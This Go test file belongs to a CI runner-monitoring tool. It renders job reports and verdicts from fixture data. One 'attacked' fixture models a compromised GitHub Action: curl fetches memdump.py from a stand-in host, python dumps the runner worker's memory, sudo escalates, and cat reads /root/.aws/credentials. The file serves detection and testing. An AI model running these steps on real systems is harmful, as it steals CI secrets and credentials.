package summary

import (
	"bytes"
	"flag"
	"io"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"google.golang.org/protobuf/proto"
	"google.golang.org/protobuf/types/known/timestamppb"

	sallyportv1 "github.com/sallyport-ci/sallyport/proto/sallyport/v1"
)

var update = flag.Bool("update", false, "write the golden files anew")

var noon = time.Date(2026, 3, 1, 12, 0, 0, 0, time.UTC)

func to(domain string, mark sallyportv1.DestinationMark, programs ...string) *sallyportv1.JobDestination {
	return &sallyportv1.JobDestination{
		Domain: domain, Address: "203.0.113.7", Port: 443, Protocol: "tcp", BytesSent: 1400, BytesReceived: 5 << 20, Flows: 3,
		Programs: programs, Mark: mark,
	}
}

const (
	known    = sallyportv1.DestinationMark_DESTINATION_MARK_KNOWN
	first    = sallyportv1.DestinationMark_DESTINATION_MARK_FIRST_SEEN
	learning = sallyportv1.DestinationMark_DESTINATION_MARK_LEARNING
	unknown  = sallyportv1.DestinationMark_DESTINATION_MARK_UNSPECIFIED
)

// quiet is a job that did nothing new.
func quiet() *sallyportv1.JobReport {
	return &sallyportv1.JobReport{
		Job:     &sallyportv1.Attribution{Repository: "acme/shop", Workflow: "CI", RunId: "7", Job: "build", Event: "push"},
		Started: timestamppb.New(noon), Made: timestamppb.New(noon.Add(time.Minute)),
		Counts: &sallyportv1.JobCounts{Processes: 340, Programs: 351, Flows: 9, BytesSent: 4200, BytesReceived: 15 << 20, Lookups: 6},
		Steps: []*sallyportv1.JobStep{
			{Step: "", Destinations: []*sallyportv1.JobDestination{{Address: "10.0.0.2", Port: 53, Protocol: "udp", Resolver: true, Flows: 3}}},
			{Step: "checkout", Action: "actions/checkout@v4", Destinations: []*sallyportv1.JobDestination{to("github.com", known, "git-remote-https")}},
			{Step: "test", Destinations: []*sallyportv1.JobDestination{to("registry.example.test", known, "node", "curl"), {
				Address: "198.51.100.9", Port: 8125, Protocol: "udp", Flows: 2, Failed: 1, Programs: []string{"node"}, Mark: known,
			}}},
		},
		Gaps: &sallyportv1.JobGaps{},
		Judgement: &sallyportv1.JobJudgement{
			Complete: true, Baseline: &sallyportv1.BaselineFacts{Stable: true, Runs: 8, RunsNeeded: 5},
			Link: "https://sallyport.example.test/v1/repositories/acme/shop/runs/7",
		},
	}
}

// attacked is a job with findings.
func attacked() *sallyportv1.JobReport {
	r := quiet()
	r.Steps = append(r.Steps, &sallyportv1.JobStep{Step: "changed", Action: "tj-actions/changed-files@v45", Destinations: []*sallyportv1.JobDestination{
		to("gist.example.test", first, "curl"),
	}})
	at := &sallyportv1.Attribution{Step: "changed", Action: "tj-actions/changed-files@v45"}
	r.Judgement.Findings = []*sallyportv1.Finding{
		{
			Message: "python3.11 reached into the runner's worker, which holds the secrets of the job (proc-mem)", Attribution: at,
			Policy: &sallyportv1.Policy{
				Id: "process_memory_read", Title: "A step read the runner's memory", Severity: sallyportv1.Severity_SEVERITY_CRITICAL,
				Description: "The worker holds every secret of the job.", Remediation: "Rotate the secrets of the job.",
			},
			Ancestry: []*sallyportv1.Process{
				{Executable: "/usr/bin/python3.11", Arguments: []string{"python3", "memdump.py"}}, {Executable: "/usr/bin/sudo"}, {Executable: "/usr/bin/node"},
			},
		},
		{
			Message: "curl sent to gist.example.test port 80 (tcp), which none of the 8 clean runs of this job contacted", Attribution: at,
			Policy: &sallyportv1.Policy{
				Id: "new_endpoint", Title: "New endpoint", Severity: sallyportv1.Severity_SEVERITY_HIGH, Remediation: "Find out which dependency sends there.",
			},
			Behaviour: &sallyportv1.Behaviour{Kind: sallyportv1.BehaviourKind_BEHAVIOUR_KIND_EGRESS, Target: "gist.example.test", Port: 80, Protocol: "tcp"},
			Ancestry:  []*sallyportv1.Process{{Executable: "/usr/bin/curl", Arguments: []string{"curl", "-sSf", "http://gist.example.test/memdump.py"}}},
			Remedies: []*sallyportv1.Remedy{
				{Title: "Approve it for this job", Text: `sallyport baseline approve 750dc6a7222a015a630bcc2014e46b6e --reason "..."`},
				{Title: "As an allowed endpoint", Text: "gist.example.test:80"},
			},
		},
	}
	r.Remarks = []*sallyportv1.JobRemark{
		{Kind: sallyportv1.JobRemarkKind_JOB_REMARK_KIND_FILE, Step: "changed", Program: "cat", Deed: "read", Object: "/root/.aws/credentials", Because: "credential", Times: 2},
		{Kind: sallyportv1.JobRemarkKind_JOB_REMARK_KIND_ACCESS, Step: "changed", Program: "python3.11", Deed: "opened the memory of", Object: "Runner.Worker", Because: "the runner's worker, which holds the job's secrets", Times: 1},
		{Kind: sallyportv1.JobRemarkKind_JOB_REMARK_KIND_PRIVILEGE, Step: "changed", Program: "sudo", Deed: "became user 0, gaining", Object: "cap_chown cap_dac_override cap_fowner and 38 more", Times: 1},
	}
	return r
}

// alone is a job whose server is away, and whose agent was killed in the middle.
func alone() *sallyportv1.JobReport {
	r := quiet()
	r.Judgement, r.Unasked = nil, "there is no connection to the server"
	for _, s := range r.GetSteps() {
		for _, d := range s.GetDestinations() {
			d.Mark = unknown
		}
	}
	r.Gaps = &sallyportv1.JobGaps{
		EventsLost: map[string]uint64{"fork": 100, "flow": 20}, BatchesWaiting: 12, BeganBefore: true,
		PreviousEnd: sallyportv1.AgentEnd_AGENT_END_KILLED, PreviousSeen: timestamppb.New(noon.Add(-time.Second)),
	}
	return r
}

func TestGolden(t *testing.T) {
	for name, r := range map[string]*sallyportv1.JobReport{"quiet": quiet(), "attacked": attacked(), "alone": alone()} {
		for extension, write := range map[string]func(io.Writer, *sallyportv1.JobReport) error{".md": Job, ".txt": Text} {
			var got bytes.Buffer
			if err := write(&got, r); err != nil {
				t.Fatal(err)
			}
			path := filepath.Join("testdata", name+extension)
			if *update {
				if err := os.MkdirAll("testdata", 0o755); err != nil {
					t.Fatal(err)
				}
				if err := os.WriteFile(path, got.Bytes(), 0o644); err != nil {
					t.Fatal(err)
				}
			}
			want, err := os.ReadFile(path)
			if err != nil {
				t.Fatal(err)
			}
			if !bytes.Equal(got.Bytes(), want) {
				t.Errorf("%s differs; got:\n%s", path, got.Bytes())
			}
		}
	}
}

func TestVerdict(t *testing.T) {
	with := func(r *sallyportv1.JobReport, f func(*sallyportv1.JobReport)) *sallyportv1.JobReport {
		r = proto.CloneOf(r)
		f(r)
		return r
	}
	baseline := func(b *sallyportv1.BaselineFacts) func(*sallyportv1.JobReport) {
		return func(r *sallyportv1.JobReport) { r.Judgement.Baseline = b }
	}
	for _, c := range []struct {
		r    *sallyportv1.JobReport
		want string
	}{
		{quiet(), "✅ Nothing new · 3 destinations · 340 processes"},
		{attacked(), "🔴 2 findings · 4 destinations · 340 processes"},
		{with(attacked(), func(r *sallyportv1.JobReport) {
			r.Judgement.Findings = r.Judgement.Findings[:1]
			r.Judgement.Findings[0].Policy.Severity = sallyportv1.Severity_SEVERITY_MEDIUM
		}), "⚠️ 1 finding · 4 destinations · 340 processes"},
		{with(attacked(), func(r *sallyportv1.JobReport) { r.Gaps.EventsLost = map[string]uint64{"fork": 1} }), "🔴 2 findings · not complete: 1 event was lost · 4 destinations · 340 processes"},
		{with(attacked(), func(r *sallyportv1.JobReport) { r.Judgement.Findings = nil }), "🆕 1 new destination · 4 destinations · 340 processes"},
		{with(quiet(), baseline(&sallyportv1.BaselineFacts{Runs: 2, RunsNeeded: 5})), "👀 Learning, run 3 of 5 · 3 destinations · 340 processes"},
		{with(quiet(), baseline(&sallyportv1.BaselineFacts{Runs: 9, RunsNeeded: 5})), "👀 Learning, 9 clean runs so far · 3 destinations · 340 processes"},
		{with(with(quiet(), baseline(&sallyportv1.BaselineFacts{Runs: 2, RunsNeeded: 5})), func(r *sallyportv1.JobReport) { r.Job.Event = "pull_request" }),
			"👀 Learning, 2 clean runs so far · 3 destinations · 340 processes"},
		{with(quiet(), func(r *sallyportv1.JobReport) { r.Judgement.Complete = false }), "⏳ Nothing new so far · 3 destinations · 340 processes"},
		{with(quiet(), func(r *sallyportv1.JobReport) { r.Gaps.EventsLost = map[string]uint64{"fork": 100, "flow": 20} }),
			"❗ Not complete: 120 events were lost · nothing new · 3 destinations · 340 processes"},
		{alone(), "❗ Not complete: 120 events were lost · not judged: the server could not be asked · 3 destinations · 340 processes"},
		{with(alone(), func(r *sallyportv1.JobReport) { r.Gaps = &sallyportv1.JobGaps{} }), "❔ Not judged: the server could not be asked · 3 destinations · 340 processes"},
		{&sallyportv1.JobReport{}, "❔ Not judged: the server could not be asked · 0 destinations · 0 processes"},
	} {
		if got := Verdict(c.r); got != c.want {
			t.Errorf("%s\nwant %s", got, c.want)
		}
	}
}

// TestSeveralJobs: a check shows several jobs in one table.
func TestSeveralJobs(t *testing.T) {
	other := attacked()
	other.Job.Job = "deploy"
	var b strings.Builder
	if err := Destinations(&b, quiet(), other); err != nil {
		t.Fatal(err)
	}
	for _, want := range []string{"| job | step |", "| `build` | `checkout`", "| `deploy` | `checkout`", "`gist.example.test:443` | 🆕 **first seen**"} {
		if !strings.Contains(b.String(), want) {
			t.Errorf("%q is missing in\n%s", want, b.String())
		}
	}
}
